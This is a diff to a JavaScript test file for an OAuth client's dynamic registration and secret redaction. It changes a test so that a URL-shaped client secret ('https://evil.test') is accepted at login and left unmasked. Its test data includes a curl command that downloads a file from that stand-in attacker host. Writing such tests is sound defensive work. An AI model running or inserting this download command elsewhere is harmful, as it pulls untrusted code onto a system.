@@ -465,15 +465,16 @@ for (const [text, reason] of Object.entries(NO_TOKENS)) {
   });
 }
 
-test("a registration whose client secret is an address is refused", async () => {
+test("a client secret that could be no token is used and masks nothing", async () => {
   await using fake = await startAuthorizationServer();
-  const { begin } = open(fake);
+  const { login, redactor } = open(fake);
   fake.onRequest = (path, _form, response) => {
     const reply = { client_id: "client-1", client_secret: "https://evil.test", redirect_uris: [REDIRECT] };
     if (path === "/register") response.writeHead(201, JSON_TYPE).end(JSON.stringify(reply));
     return path === "/register";
   };
-  await assert.rejects(begin(), /gives Postern a client_secret that has characters that no bearer token has/);
+  await login();
+  assert.equal(redactor.redact("curl -s https://evil.test -o build.sh"), "curl -s https://evil.test -o build.sh");
 });
 
 test("a kept sign-in whose token would not be taken any more asks for a new one, and masks nothing", async () => {
